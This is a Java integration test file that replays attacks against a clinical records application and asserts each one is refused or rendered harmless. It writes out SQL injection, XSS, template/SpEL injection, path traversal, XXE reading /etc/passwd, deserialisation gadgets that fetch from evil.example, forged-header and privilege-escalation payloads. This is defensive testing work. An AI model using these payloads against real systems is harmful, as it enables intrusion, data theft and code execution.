package org.spinecell.assurance;

import java.net.URLEncoder;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.TreeSet;

import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.spinecell.AssuranceReport;
import org.spinecell.CoercionPayloads;
import org.spinecell.IntegrationTest;
import org.spinecell.RequestBodies;
import org.spinecell.TestApi;

import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.beans.factory.annotation.Qualifier;
import org.springframework.web.bind.annotation.RequestMethod;
import org.springframework.web.servlet.mvc.method.RequestMappingInfo;
import org.springframework.web.servlet.mvc.method.annotation.RequestMappingHandlerMapping;
import org.springframework.web.util.HtmlUtils;

import static org.assertj.core.api.Assertions.assertThat;
import static org.spinecell.assurance.AssuranceTest.publish;
import static org.spinecell.cellproducts.CellLab.path;

/**
 * Replays the attacks seen against comparable clinical systems. Each payload must be refused (a 4xx,
 * never a 5xx) or rendered inert, and must store nothing. Every attempt is counted; an accepted one
 * is a payload that got a 5xx, changed data it should not have, or came back unescaped.
 * <p>
 * Over 400 lines because each attack class (injection, escalation, forged headers, IDOR in
 * bodies, ...) has its payload list beside the check that counts it.
 */
class AttackReplayTests extends IntegrationTest {

	/** The clinic whose records the attempts name, and the next one. */
	private AssuranceClinic clinic;

	@BeforeEach
	void clinicWithStaff() {
		clinic = new AssuranceClinic(app);
	}

	static final List<String> SQL = List.of("' OR '1'='1", "x'; DROP TABLE patient; --", "1) OR (1=1",
			"name; SELECT pg_sleep(5) --", "family_name DESC, (SELECT 1/0)", "\" UNION SELECT username FROM app_user --",
			"%' AND 1=CAST((SELECT version()) AS int) --");

	static final List<String> MARKUP = List.of("<script>alert(1)</script>", "\"><img src=x onerror=alert(1)>",
			"</title><svg onload=alert(1)>", "javascript:alert(1)");

	static final List<String> TEMPLATE = List.of("${7*7}", "__${7*7}__::x", "[[${7*7}]]", "*{T(java.lang.Runtime).getRuntime()}",
			"#{7*7}", "@{//evil.example}");

	private static final Tally TALLY = new Tally();

	@Autowired
	@Qualifier("requestMappingHandlerMapping")
	RequestMappingHandlerMapping mappings;

	@Test
	void sqlThroughSearchSortAndFilterParametersIsInert() {
		ActorClient doctor = ActorClient.signedIn(port, clinic.cells().physician().token(),
				clinic.cells().physicianUsername(), USER_PASSWORD);
		ActorClient labWeb = ActorClient.signedIn(port, clinic.cells().lab().token(), clinic.cells().labUsername(),
				USER_PASSWORD);
		ActorClient adminWeb = ActorClient.signedIn(port, admin.token(), "admin", ADMIN_PASSWORD);
		long patients = count("patient");
		long users = count("app_user");
		int ownPatients = clinic.cells().physician().get("/api/v1/patients").json().get("total").asInt();
		for (String payload : SQL) {
			String p = URLEncoder.encode(payload, StandardCharsets.UTF_8);
			// A search or filter value matches nothing: the payload is a value, not SQL.
			expectNothingFound("search", "GET /api/v1/patients?q", doctor.get("/api/v1/patients?q=" + p), "items");
			expectNothingFound("filter", "GET /api/v1/cell-products?din", labWeb.get("/api/v1/cell-products?din=" + p),
					"items");
			expectNothingFound("filter", "GET /api/v1/audit?entityType", adminWeb.get("/api/v1/audit?entityType=" + p),
					"items");
			expectNothingFound("filter", "GET /api/v1/audit?user", adminWeb.get("/api/v1/audit?user=" + p), "items");
			expectNothingFound("search", "GET /api/v1/codes/icd10?q", doctor.get("/api/v1/codes/icd10?q=" + p), "items");
			// A sort value is either refused or ignored: the same patients, quickly.
			long started = System.nanoTime();
			HttpResponse<String> sorted = doctor.get("/api/v1/patients?sort=" + p);
			long millis = (System.nanoTime() - started) / 1_000_000;
			boolean sameRows = sorted.statusCode() == 200
					&& json(sorted).get("total").asInt() == ownPatients;
			TALLY.attempt("sql", payload, "GET /api/v1/patients?sort",
					sorted.statusCode() >= 500 || millis > 4000 || (sorted.statusCode() == 200 && !sameRows));
			for (String page : List.of("/patients?q=", "/patients?sort=", "/patients/codes?q=")) {
				page(doctor, "sql", payload, page, p);
			}
			page(labWeb, "sql", payload, "/lab/find?din=", p);
			page(labWeb, "sql", payload, "/lab?state=", p);
			page(adminWeb, "sql", payload, "/audit?entityType=", p);
			page(doctor, "sql", payload, "/follow-up?status=", p);
		}
		assertThat(count("patient")).isEqualTo(patients);
		assertThat(count("app_user")).isEqualTo(users);
		assertThat(TALLY.acceptedOf("sql")).as("SQL payloads that got through").isEmpty();
	}

	@Test
	void markupAndTemplateSyntaxInNamesAndFreeTextComeBackEscaped() {
		ActorClient doctor = ActorClient.signedIn(port, clinic.cells().physician().token(),
				clinic.cells().physicianUsername(), USER_PASSWORD);
		List<String> payloads = new ArrayList<>(MARKUP);
		payloads.addAll(TEMPLATE);
		for (String payload : payloads) {
			TestApi.Response created = clinic.cells().physician().post("/api/v1/patients", Map.of("clinicId",
					clinic.cells().clinicId(), "mrn",
					"X-" + unique(), "givenName", payload, "familyName", payload + " Quinn", "birthDate", "1970-01-01",
					"sex", "FEMALE"));
			if (created.status() != 201) {
				TALLY.attempt("markup", payload, "POST /api/v1/patients", created.status() >= 500);
				continue;
			}
			String id = created.json().get("id").asString();
			// Free text: a prior treatment's description and an adverse event's description and action.
			TestApi.Response treatment = clinic.cells().physician().post("/api/v1/patients/" + id
					+ "/prior-treatments", Map.of("type",
					"PHYSICAL_THERAPY", "description", payload, "startDate", LocalDate.now().minusMonths(3).toString(),
					"response", "NONE"));
			TALLY.attempt("markup", payload, "POST /api/v1/patients/{id}/prior-treatments", treatment.status() >= 500);
			Map<String, Object> event = new LinkedHashMap<>();
			event.put("patientId", id);
			event.put("onset", LocalDate.now().minusDays(1).toString());
			event.put("description", payload);
			event.put("category", "Pain");
			event.put("grade", 1);
			event.put("relatednessProcedure", "UNRELATED");
			event.put("expected", true);
			event.put("action", payload);
			event.put("outcome", "RECOVERING");
			event.put("reporter", "CLINICIAN");
			TestApi.Response ae = clinic.cells().physician().post("/api/v1/adverse-events", event);
			TALLY.attempt("markup", payload, "POST /api/v1/adverse-events", ae.status() >= 500);

			String chart = doctor.get("/patients/" + id).body();
			String list = doctor.get("/patients?q=" + URLEncoder.encode(payload, StandardCharsets.UTF_8)).body();
			String escaped = HtmlUtils.htmlEscape(payload);
			boolean chartInert = chart.contains(escaped) && (escaped.equals(payload) || !chart.contains(payload))
					&& !chart.contains(">49<") && !chart.contains(" 49 Quinn");
			boolean listInert = escaped.equals(payload) || !list.contains(payload);
			TALLY.attempt("markup", payload, "GET /patients/{id}", !chartInert);
			TALLY.attempt("markup", payload, "GET /patients?q", !listInert);
			assertThat(chart).as("the chart shows the name %s as text", payload).contains(escaped);
		}
		assertThat(TALLY.acceptedOf("markup")).as("markup or template payloads rendered live").isEmpty();
	}

	@Test
	void everyWebStateChangeWithoutACsrfTokenIsRefusedAndStoresNothing() {
		Map<String, String> ids = clinic.recordsOfThisClinic();
		ActorClient doctor = ActorClient.signedIn(port, clinic.cells().physician().token(),
				clinic.cells().physicianUsername(), USER_PASSWORD);
		ActorClient adminWeb = ActorClient.signedIn(port, admin.token(), "admin", ADMIN_PASSWORD);
		ActorClient stranger = ActorClient.anonymous(port, null);
		int tried = 0;
		for (String endpoint : webStateChanges()) {
			String path = AuthorisationMatrixTests.substitute(endpoint, ids);
			ActorClient as = path.startsWith("/admin/") ? adminWeb : path.startsWith("/s/") ? stranger : doctor;
			clinic.surveys().forgetRateLimits();
			long audit = count("audit_event");
			HttpResponse<String> response = as.form(path, Map.of("reason", "csrf test", "version", "0"), false);
			boolean accepted = response.statusCode() != 403 || count("audit_event") != audit;
			TALLY.attempt("csrf", "no CSRF token", endpoint, accepted);
			tried++;
		}
		assertThat(tried).isGreaterThan(40);
		assertThat(TALLY.acceptedOf("csrf")).as("web state changes accepted without a CSRF token").isEmpty();
	}

	@Test
	void pathTricksOnThePublicSurveyLinksFindNothing() {
		String token = clinic.surveys().link(clinic.surveys().baselineFollowUp());
		ActorClient stranger = ActorClient.anonymous(port, null);
		long responses = count("instrument_response");
		List<String> tricks = List.of("/s/%2e%2e/admin/users", "/s/%2e%2e%2fadmin%2fusers", "/s/..%2f..%2fadmin%2fusers",
				"/s/%252e%252e%252fadmin%252fusers", "/s/" + token + "%2f..%2f..%2fadmin%2fusers",
				"/s/" + token + "/..;/..;/admin/users", "/s/" + token + ";jsessionid=0123456789ABCDEF",
				"/s/;jsessionid=0123456789ABCDEF/" + token, "/s/" + token + "%00", "/s/" + token + "%2500",
				"/s/" + "A".repeat(43), "/s/" + "A".repeat(5000), "/s/" + "A".repeat(20000),
				"/s/" + token.substring(0, 42), "/s/" + token + "x", "/s/%20" + token, "/s/" + token.toUpperCase() + "Z",
				"/s/" + token + "/%2e%2e/%2e%2e/audit", "/s/%C0%AE%C0%AE/admin/users", "/s/" + token + "/medicines/..%5c..%5caudit",
				"/api/v1/surveys/%2e%2e/%2e%2e/users/responses", "/api/v1/surveys/" + "A".repeat(5000) + "/responses");
		for (String trick : tricks) {
			clinic.surveys().forgetRateLimits();
			int status;
			String body;
			try {
				HttpResponse<String> response = trick.startsWith("/api/")
						? stranger.json("POST", trick, "{\"instrument\":\"nrs-back\",\"answers\":{\"nrs\":6}}")
						: stranger.get(trick);
				status = response.statusCode();
				body = response.body();
			}
			catch (IllegalStateException ex) {
				status = 400; // the client itself would not send it, or the server closed the connection
				body = "";
			}
			boolean accepted = status >= 500 || (status >= 200 && status < 300)
					|| body.contains("admin") && body.contains("users") && status < 400;
			TALLY.attempt("path", trick.length() > 80 ? trick.substring(0, 80) + "…" : trick, "GET /s/{token}", accepted);
		}
		assertThat(count("instrument_response")).isEqualTo(responses);
		// The untouched link still works, so the refusals above were about the tricks.
		assertThat(stranger.get("/s/" + token).statusCode()).isEqualTo(200);
		assertThat(TALLY.acceptedOf("path")).as("survey path tricks that got through").isEmpty();
	}

	@Test
	void xmlAndPolymorphicTypeHintsAreRefusedByTheJsonEndpoints() {
		String xxe = "<?xml version=\"1.0\"?><!DOCTYPE q [<!ENTITY e SYSTEM \"file:///etc/passwd\">]>"
				+ "<Questionnaire><id value=\"&e;\"/></Questionnaire>";
		Map<String, String> payloads = new LinkedHashMap<>();
		payloads.put("xml-doctype", xxe);
		payloads.put("json-class-hint", "{\"@class\":\"java.lang.ProcessBuilder\",\"command\":[\"id\"]}");
		payloads.put("json-type-array", "[\"java.util.HashMap\",{\"resourceType\":\"Questionnaire\"}]");
		payloads.put("json-spring-gadget", "{\"resourceType\":\"Questionnaire\",\"id\":\"evil\",\"@type\":"
				+ "\"org.springframework.context.support.ClassPathXmlApplicationContext\",\"url\":\"http://evil.example/x.xml\"}");
		payloads.put("json-doctype-in-string", "{\"resourceType\":\"Questionnaire\",\"id\":\"" + "x".repeat(3) + "\",\"text\":"
				+ "{\"div\":\"<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><div>&e;</div>\"}}");
		payloads.put("java-serialised", "\u00ac\u00ed\u0000\u0005sr\u0000\u0011java.util.HashMap");
		Map<String, TestApi> endpoints = new LinkedHashMap<>();
		endpoints.put("/api/v1/instruments", admin);
		endpoints.put("/api/v1/instruments/nrs-back/scoring-tables", admin);
		endpoints.put("/api/v1/clinics", admin);
		endpoints.put("/api/v1/patients", clinic.cells().physician());
		endpoints.put("/api/v1/adverse-events", clinic.cells().physician());
		long instruments = count("instrument");
		long clinics = count("clinic");
		long audit = count("audit_event");
		for (Map.Entry<String, String> payload : payloads.entrySet()) {
			for (Map.Entry<String, TestApi> endpoint : endpoints.entrySet()) {
				for (String type : List.of("application/json", "application/xml", "application/x-java-serialized-object")) {
					ActorClient caller = ActorClient.anonymous(port, endpoint.getValue().token());
					HttpResponse<String> response = caller.raw("POST", endpoint.getKey(), type, payload.getValue());
					boolean accepted = response.statusCode() >= 500 || response.statusCode() < 400
							|| response.body().contains("root:");
					TALLY.attempt("deserialisation", payload.getKey() + " as " + type, "POST " + endpoint.getKey(), accepted);
				}
			}
		}
		assertThat(count("instrument")).isEqualTo(instruments);
		assertThat(count("clinic")).isEqualTo(clinics);
		assertThat(count("audit_event")).isEqualTo(audit);
		assertThat(TALLY.acceptedOf("deserialisation")).as("XML or type-hinted payloads accepted").isEmpty();
	}

	@Test
	void oversizedAndDeeplyNestedJsonIsRefused() {
		Map<String, String> payloads = new LinkedHashMap<>();
		payloads.put("nested arrays x100000", "[".repeat(100_000) + "]".repeat(100_000));
		payloads.put("nested objects x5000", "{\"a\":".repeat(5_000) + "1" + "}".repeat(5_000));
		payloads.put("string of 3 MB", "{\"name\":\"" + "x".repeat(3 * 1024 * 1024) + "\"}");
		payloads.put("number of 100000 digits", "{\"grade\":" + "9".repeat(100_000) + "}");
		payloads.put("exponent 1e1000000", "{\"grade\":1e1000000}");
		payloads.put("100000 keys", "{" + String.join(",", java.util.stream.IntStream.range(0, 100_000)
			.mapToObj(i -> "\"k" + i + "\":1")
			.toList()) + "}");
		long audit = count("audit_event");
		Map<String, TestApi> endpoints = new LinkedHashMap<>();
		endpoints.put("/api/v1/patients", clinic.cells().physician());
		endpoints.put("/api/v1/adverse-events", clinic.cells().physician());
		endpoints.put("/api/v1/instruments", admin);
		endpoints.put("/api/v1/auth/token", anonymous);
		endpoints.put("/api/v1/surveys/" + "A".repeat(43) + "/responses", anonymous);
		for (Map.Entry<String, String> payload : payloads.entrySet()) {
			for (Map.Entry<String, TestApi> endpoint : endpoints.entrySet()) {
				clinic.surveys().forgetRateLimits();
				boolean accepted;
				try {
					TestApi.Response response = endpoint.getValue().postRaw(endpoint.getKey(), payload.getValue());
					accepted = response.status() >= 500 || response.status() < 400;
				}
				catch (IllegalStateException ex) {
					// The server answered 413 and closed the connection while the client was still
					// sending the oversized body, so the client saw no response: refused, not accepted
					// (the audit count below proves nothing was stored).
					assertThat(ex).hasCauseInstanceOf(java.io.IOException.class);
					accepted = false;
				}
				TALLY.attempt("size", payload.getKey(), "POST " + endpoint.getKey().replaceAll("A{43}", "{token}"),
						accepted);
			}
		}
		assertThat(count("audit_event")).isEqualTo(audit);
		assertThat(TALLY.acceptedOf("size")).as("oversized or nested payloads accepted").isEmpty();
	}

	/**
	 * A clinic administrator trying to raise its own privileges or reach beyond its clinic: more roles
	 * or clinics for itself, another clinic for its users, its way into another clinic's accounts or
	 * clinic, and an installation administrator (an administrator without a clinic) made by it. Each
	 * through the API and the pages; accepted if it answers 2xx (API) or changes any account or clinic.
	 */
	@Test
	void aClinicAdministratorCannotRaiseItsPrivilegesOrReachAnotherClinic() {
		java.util.UUID clinicA = clinic.cells().clinicId();
		java.util.UUID clinicB = createClinic("Escalation B");
		String adminName = createUser("ADMIN", Set.of(clinicA));
		String self = userId(adminName).toString();
		String userA = userId(createUser("LAB", Set.of(clinicA))).toString();
		String userB = userId(createUser("LAB", Set.of(clinicB))).toString();
		ActorClient clinicAdmin = ActorClient.signedIn(port, login(adminName, USER_PASSWORD).token(), adminName,
				USER_PASSWORD);
		String a = clinicA.toString();
		String b = clinicB.toString();
		Map<String, String[]> api = new LinkedHashMap<>();
		api.put("self-grant roles", new String[] { "PUT", "/api/v1/users/" + self, user("[\"ADMIN\",\"PHYSICIAN\"]", a) });
		api.put("self-grant clinic", new String[] { "PUT", "/api/v1/users/" + self, user("[\"ADMIN\"]", a + "\",\"" + b) });
		api.put("self to installation admin", new String[] { "PUT", "/api/v1/users/" + self, user("[\"ADMIN\"]", null) });
		api.put("grant other clinic", new String[] { "PUT", "/api/v1/users/" + userA, user("[\"LAB\"]", a + "\",\"" + b) });
		api.put("take over other clinic's user", new String[] { "PUT", "/api/v1/users/" + userB, user("[\"LAB\"]", a) });
		api.put("grant installation admin", new String[] { "PUT", "/api/v1/users/" + userA, user("[\"ADMIN\"]", null) });
		api.put("create in other clinic", new String[] { "POST", "/api/v1/users", newUser("[\"PHYSICIAN\"]", b) });
		api.put("create installation admin", new String[] { "POST", "/api/v1/users", newUser("[\"ADMIN\"]", null) });
		api.put("other clinic's password", new String[] { "POST", "/api/v1/users/" + userB + "/password",
				"{\"password\": \"Hijacked-Passphrase-2026\"}" });
		api.put("other clinic's second factor", new String[] { "DELETE", "/api/v1/users/" + userB + "/mfa", null });
		api.put("edit other clinic", new String[] { "PUT", "/api/v1/clinics/" + b,
				"{\"name\": \"Taken over\", \"city\": \"X\", \"country\": \"US\", \"version\": 0}" });
		api.put("create clinic", new String[] { "POST", "/api/v1/clinics",
				"{\"name\": \"Rogue clinic\", \"city\": \"X\", \"country\": \"US\"}" });
		for (Map.Entry<String, String[]> attack : api.entrySet()) {
			String[] call = attack.getValue();
			String before = accountsAndClinics();
			HttpResponse<String> response = clinicAdmin.json(call[0], call[1], call[2]);
			boolean accepted = response.statusCode() < 400 || !accountsAndClinics().equals(before);
			TALLY.attempt("escalation", attack.getKey(), call[0] + " " + call[1].replaceAll("[0-9a-f-]{36}", "{id}"),
					accepted);
		}
		Map<String, Map<String, String>> pages = new LinkedHashMap<>();
		pages.put("/admin/users/" + self, Map.of("displayName", "Self", "roles", "PHYSICIAN", "clinicIds", a, "version",
				"0"));
		pages.put("/admin/users/" + userB, Map.of("displayName", "Mine now", "roles", "LAB", "clinicIds", a, "version",
				"0"));
		pages.put("/admin/users/new", Map.of("username", "rogue.root", "password", USER_PASSWORD, "displayName",
				"Rogue root", "roles", "ADMIN"));
		pages.put("/admin/users/" + userB + "/password", Map.of("password", "Hijacked-Passphrase-2026"));
		pages.put("/admin/users/" + userB + "/mfa/reset", Map.of());
		pages.put("/admin/users/" + userB + "/disable", Map.of());
		pages.put("/admin/clinics/" + b, Map.of("name", "Taken over", "city", "X", "country", "US", "version", "0"));
		pages.put("/admin/clinics", Map.of("name", "Rogue clinic", "city", "X", "country", "US"));
		for (Map.Entry<String, Map<String, String>> attack : pages.entrySet()) {
			String before = accountsAndClinics();
			clinicAdmin.form(attack.getKey(), attack.getValue(), true);
			TALLY.attempt("escalation", "page form", "POST " + attack.getKey().replaceAll("[0-9a-f-]{36}", "{id}"),
					!accountsAndClinics().equals(before));
		}
		assertThat(TALLY.acceptedOf("escalation")).as("privilege escalations that got through").isEmpty();
	}

	private static String user(String roles, String clinics) {
		return "{\"displayName\": \"Test\", \"roles\": " + roles + ", \"clinicIds\": ["
				+ (clinics == null ? "" : "\"" + clinics + "\"") + "], \"version\": 0}";
	}

	private static String newUser(String roles, String clinics) {
		return "{\"username\": \"rogue." + unique() + "\", \"password\": \"" + USER_PASSWORD
				+ "\", \"displayName\": \"Rogue\", \"roles\": " + roles + ", \"clinicIds\": ["
				+ (clinics == null ? "" : "\"" + clinics + "\"") + "]}";
	}

	/** Every account with its roles, clinics, password and state, and every clinic: any change shows. */
	private String accountsAndClinics() {
		return ownerJdbc().sql("""
				SELECT string_agg(u.id || u.password_hash || u.enabled || u.version
				       || coalesce((SELECT string_agg(r.role, ',' ORDER BY r.role) FROM user_role r WHERE r.user_id = u.id), '')
				       || coalesce((SELECT string_agg(c.clinic_id::text, ',' ORDER BY c.clinic_id) FROM user_clinic c
				                    WHERE c.user_id = u.id), '')
				       || coalesce((SELECT m.created_at::text FROM user_mfa m WHERE m.user_id = u.id), ''), ';' ORDER BY u.id)
				       || (SELECT string_agg(c.id || c.name || c.version, ';' ORDER BY c.id) FROM clinic c)
				FROM app_user u
				""").query(String.class).single();
	}

	@Test
	void valuesOfAnotherTypeAndUnstorableTextAreRefusedByFieldAtEveryJsonEndpoint() {
		List<TestApi> callers = List.of(clinic.cells().physician(), clinic.cells().lab(), admin, anonymous);
		long audit = count("audit_event");
		long patients = count("patient");
		long products = count("cell_product");
		long events = count("adverse_event");
		int endpoints = 0;
		for (RequestBodies.Endpoint endpoint : RequestBodies.of(mappings)) {
			String path = CoercionPayloads.concrete(endpoint.pattern());
			TestApi caller = CoercionPayloads.callerReachingTheBody(endpoint, path, callers);
			if (caller == null) {
				continue; // a role none of these actors has; RequestBodyCoercionTests covers every role
			}
			endpoints++;
			for (CoercionPayloads.Payload payload : CoercionPayloads.of(endpoint.body())) {
				TestApi.Response response = caller.sendRaw(endpoint.method().name(), path, "application/json",
						payload.json());
				TALLY.attempt("coercion", payload.kind(), endpoint.method() + " " + endpoint.pattern(),
						CoercionPayloads.verdict(payload, response) != null);
			}
		}
		assertThat(endpoints).isGreaterThan(30);
		assertThat(count("audit_event")).isEqualTo(audit);
		assertThat(count("patient")).isEqualTo(patients);
		assertThat(count("cell_product")).isEqualTo(products);
		assertThat(count("adverse_event")).isEqualTo(events);
		assertThat(TALLY.acceptedOf("coercion")).as("coerced or unstorable values accepted").isEmpty();
	}

	@Test
	void idsInABodyOfAnotherClinicAnotherPatientMadeUpOrFinishedAreRefusedAndStoreNothing() {
		Map<String, String> a = clinic.recordsOfThisClinic();
		TestApi doctorA = clinic.cells().physician();
		java.util.UUID patientA = clinic.cells().patientId();
		java.util.UUID secondA = id(ok(doctorA.post("/api/v1/patients", Map.of("clinicId", clinic.cells().clinicId(),
				"mrn", "B-" + unique(),
				"givenName", "Second", "familyName", "Patient", "birthDate", "1971-03-03", "sex", "MALE"))));
		String secondMedication = id(ok(doctorA.post("/api/v1/patients/" + secondA + "/medications", Map.of("drug",
				"ibuprofen", "dose", 400, "unit", "mg", "route", "ORAL", "frequencyPerDay", 3, "start",
				LocalDate.now().minusDays(5).toString())))).toString();
		String cancelled = find(clinic.treatment().followUps(), "timePoint", "W2").get("id").asString();
		ok(doctorA.post("/api/v1/follow-ups/" + cancelled + "/cancel", Map.of("reason", "Withdrew")));
		java.util.UUID discarded = clinic.cells().createBmac();
		ok(clinic.cells().lab().post(path(discarded, "discard"), Map.of("reason", "Bag punctured")));
		String operatorA = userId(clinic.cells().physicianUsername()).toString();
		clinic.nextClinic();
		TestApi doctorB = clinic.cells().physician();
		java.util.UUID patientB = clinic.cells().patientId();
		String otherClinicMedication = id(ok(doctorB.post("/api/v1/patients/" + patientB + "/medications", Map.of("drug",
				"ibuprofen", "dose", 400, "unit", "mg", "route", "ORAL", "frequencyPerDay", 3, "start",
				LocalDate.now().minusDays(5).toString())))).toString();
		String operatorB = userId(clinic.cells().physicianUsername()).toString();
		String madeUp = java.util.UUID.randomUUID().toString();
		List<String> tables = List.of("instrument_response", "adverse_event", "intervention", "care_plan", "procedure",
				"medication_statement", "audit_event");
		Map<String, Long> before = new LinkedHashMap<>();
		tables.forEach(t -> before.put(t, count(t)));
		// variant -> caller, patient, operator
		record Caller(TestApi api, java.util.UUID patient, String operator) {
		}
		Map<String, Caller> callers = new LinkedHashMap<>();
		callers.put("another patient's id", new Caller(doctorA, secondA, operatorA));
		callers.put("another clinic's id", new Caller(doctorB, patientB, operatorB));
		callers.put("made-up id", new Caller(doctorA, patientA, operatorA));
		callers.put("finished record's id", new Caller(doctorA, patientA, operatorA));
		for (Map.Entry<String, Caller> variant : callers.entrySet()) {
			String kind = variant.getKey();
			Caller c = variant.getValue();
			boolean finished = kind.startsWith("finished");
			String followUp = kind.startsWith("made-up") ? madeUp : finished ? cancelled : a.get("followUp");
			String procedure = kind.startsWith("made-up") ? madeUp : a.get("procedure");
			String product = kind.startsWith("made-up") ? madeUp : finished ? discarded.toString() : a.get("product");
			String patients = "/api/v1/patients/" + c.patient();
			referenceAttempt(kind, "POST /api/v1/patients/{id}/responses#followUpId", c.api().post(patients + "/responses",
					Map.of("instrument", "nrs-back", "answers", Map.of("nrs", 5), "followUpId", followUp)));
			if (!finished) {
				Map<String, Object> event = new LinkedHashMap<>(Map.of("patientId", c.patient(), "onset",
						LocalDate.now().toString(), "description", "Sore", "category", "Pain", "grade", 1, "expected", true,
						"outcome", "RECOVERING", "reporter", "CLINICIAN"));
				event.put("procedureId", procedure);
				referenceAttempt(kind, "POST /api/v1/adverse-events#procedureId", c.api().post("/api/v1/adverse-events", event));
				event.remove("procedureId");
				event.put("productId", product);
				referenceAttempt(kind, "POST /api/v1/adverse-events#productId", c.api().post("/api/v1/adverse-events", event));
				referenceAttempt(kind, "POST /api/v1/patients/{id}/interventions#procedureId", c.api().post(patients
						+ "/interventions", Map.of("type", "SURGERY", "date", LocalDate.now().toString(), "level", "L5-S1",
								"reason", "Pain", "procedureId", procedure)));
				referenceAttempt(kind, "POST /api/v1/patients/{id}/care-plans#procedureId", c.api().post(patients
						+ "/care-plans", Map.of("kind", "PHYSICAL_THERAPY", "description", "Core", "startDate",
								LocalDate.now().toString(), "procedureId", procedure)));
				String medication = kind.startsWith("made-up") ? madeUp
						: kind.startsWith("another clinic") ? otherClinicMedication : secondMedication;
				clinic.surveys().forgetRateLimits();
				referenceAttempt(kind, "POST /api/v1/surveys/{token}/medications#stopped", anonymous.post("/api/v1/surveys/"
						+ a.get("token") + "/medications", Map.of("stopped", List.of(medication))));
			}
			referenceAttempt(kind, "POST /api/v1/procedures#productUnits.productId", c.api().post("/api/v1/procedures",
					Map.of("patientId", c.patient(), "date", LocalDate.now().toString(), "operatorId", c.operator(), "target",
							"INTRADISCAL", "levels", List.of("L4-L5"), "guidance", "FLUOROSCOPY", "placementConfirmed", true,
							"levelsConfirmed", true, "productUnits", List.of(Map.of("productId", product, "level", "L4-L5",
									"volumeMl", 1.0)))));
		}
		tables.forEach(t -> assertThat(count(t)).as("rows of %s", t).isEqualTo(before.get(t)));
		assertThat(TALLY.acceptedOf("idor-body")).as("ids in a body that were accepted").isEmpty();
	}

	@Test
	void forgedForwardingAndHostHeadersChangeNeitherTheRateLimitKeyTheAuditAddressNorTheLinks() {
		java.util.UUID followUp = clinic.surveys().baselineFollowUp();
		String token = clinic.surveys().link(followUp);
		java.net.InetAddress loopback = java.net.InetAddress.getLoopbackAddress();
		// From a trusted proxy (this machine, by default) the forwarded client address is believed.
		clinic.surveys().forgetRateLimits();
		RawHttp.Reply viaProxy = RawHttp.send(loopback, port, "POST", "/api/v1/surveys/" + token + "/problems",
				Map.of("X-Forwarded-For", "203.0.113.77"), "{\"description\":\"Fever\",\"onset\":\"" + LocalDate.now()
						+ "\",\"careSought\":\"NONE\"}");
		assertThat(viaProxy.status()).as(viaProxy.body()).isEqualTo(201);
		assertThat(lastAuditAddress()).isEqualTo("203.0.113.77");

		// From any other client the header is ignored: the audit trail names the real address ...
		java.util.Optional<java.net.InetAddress> direct = RawHttp.nonLoopbackAddress();
		if (direct.isPresent()) {
			clinic.surveys().forgetRateLimits();
			RawHttp.Reply forged = RawHttp.send(direct.get(), port, "POST", "/api/v1/surveys/" + token + "/problems",
					Map.of("X-Forwarded-For", "198.51.100.9"), "{\"description\":\"Rash\",\"onset\":\"" + LocalDate.now()
							+ "\",\"careSought\":\"NONE\"}");
			String audited = lastAuditAddress();
			TALLY.attempt("forged-header", "X-Forwarded-For from an untrusted client", "audit address",
					forged.status() >= 500 || "198.51.100.9".equals(audited));
			assertThat(audited).isEqualTo(direct.get().getHostAddress());
			// ... and a new forged address on every request does not reset the per-address limit.
			clinic.surveys().forgetRateLimits();
			int limited = 0;
			for (int i = 0; i < 70; i++) {
				RawHttp.Reply reply = RawHttp.send(direct.get(), port, "POST", "/api/v1/surveys/" + "B".repeat(42)
						+ (char) ('a' + i % 26) + "/responses", Map.of("X-Forwarded-For", "198.51.100." + (i + 1)),
						"{\"instrument\":\"nrs-back\",\"answers\":{\"nrs\":1}}");
				limited += reply.status() == 429 ? 1 : 0;
			}
			TALLY.attempt("forged-header", "rotating X-Forwarded-For from an untrusted client", "rate-limit key",
					limited == 0);
			assertThat(limited).as("requests refused by the per-address limit").isPositive();
		}

		// A forged Host (or X-Forwarded-Host, even through the proxy) never becomes the host of a link.
		for (Map.Entry<String, String> forgedHost : Map.of("Host", "evil.example", "X-Forwarded-Host", "evil.example")
			.entrySet()) {
			RawHttp.Reply created = RawHttp.send(loopback, port, "POST", "/api/v1/follow-ups/" + followUp + "/link",
					Map.of(forgedHost.getKey(), forgedHost.getValue(), "Authorization", "Bearer "
							+ clinic.cells().physician().token()), "{}");
			boolean accepted = created.status() >= 500 || created.body().contains("evil.example");
			TALLY.attempt("forged-header", forgedHost.getKey() + ": evil.example", "POST /api/v1/follow-ups/{id}/link",
					accepted);
			assertThat(created.status()).as(created.body()).isEqualTo(201);
			assertThat(created.body()).contains("\"url\":\"http://localhost:8080/s/").doesNotContain("evil.example");
		}
		assertThat(TALLY.acceptedOf("forged-header")).as("forged headers that were believed").isEmpty();
	}

	private void referenceAttempt(String kind, String endpoint, TestApi.Response response) {
		TALLY.attempt("idor-body", kind, endpoint, response.status() < 400 || response.status() >= 500);
	}

	private String lastAuditAddress() {
		return ownerJdbc().sql("SELECT remote_addr FROM audit_event WHERE entity_type = 'AdverseEvent' ORDER BY occurred_at DESC, seq DESC LIMIT 1")
			.query(String.class)
			.single();
	}

	@AfterAll
	static void publish() {
		String figure = TALLY.payloads() + " payloads × " + TALLY.endpoints() + " endpoints, " + TALLY.accepted().size()
				+ " accepted";
		Map<String, Object> figures = new LinkedHashMap<>();
		figures.put("figure", figure);
		figures.put("payloads", TALLY.payloads());
		figures.put("endpoints", TALLY.endpoints());
		figures.put("attempts", TALLY.attempts);
		figures.put("accepted", TALLY.accepted());
		figures.put("byClass", TALLY.byClass);
		AssuranceTest.publish("attacks", figures, """
				`AttackReplayTests` replays the bug classes seen in comparable clinical systems and counts
				each payload sent to each endpoint. A payload is *accepted* (a failure) if it gets a 5xx,
				a 2xx where it must be refused, changes rows it must not, or comes back unescaped.

				| Class | Attempts |
				| --- | --- |
				%s

				Latest run: **%s** (%d attempts). The classes: SQL through search, sort and filter
				parameters of the API and the pages (results must match nothing, sorts must be refused or
				ignored, `pg_sleep` must not delay); markup and Thymeleaf/SpEL syntax (`${...}`,
				`__${...}__`, `[[...]]`) in patient names and free text (prior treatment, adverse event),
